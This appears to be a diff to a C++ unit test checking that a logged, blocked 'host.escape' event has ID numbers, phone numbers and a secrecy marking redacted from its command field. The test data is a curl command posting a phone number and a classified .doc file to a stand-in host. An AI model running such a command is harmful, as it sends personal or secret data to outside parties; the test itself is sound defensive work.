@@ -15,11 +15,12 @@ struct StillClock final : Clock {
 TEST(Events, NumbersOfPeopleLeaveWordsOfProgramsBeforeTheyAreKept) {
   const StillClock clock;
   crypto::SystemRandom random;
-  auto event = make_event("host.escape", "blocked",
-                          {{"command", "curl http://x/11010519491231002X -d tel=13800138000"}, {"pid", "13800138000"}});
+  auto event = make_event(
+      "host.escape", "blocked",
+      {{"command", "curl http://x/11010519491231002X -d tel=13800138000 机密★10年.doc"}, {"pid", "13800138000"}});
   const auto good = complete_event(event, v1::CLOCK_UNKNOWN, clock, random);
   ASSERT_TRUE(good.has_value()) << good.error().text();
-  EXPECT_EQ(event.params().at("command"), "curl http://x/[id-number] -d tel=[phone]");
+  EXPECT_EQ(event.params().at("command"), "curl http://x/[id-number] -d tel=[phone] [marking].doc");
   EXPECT_EQ(event.params().at("pid"), "13800138000") << "no word of anybody";
 }
 
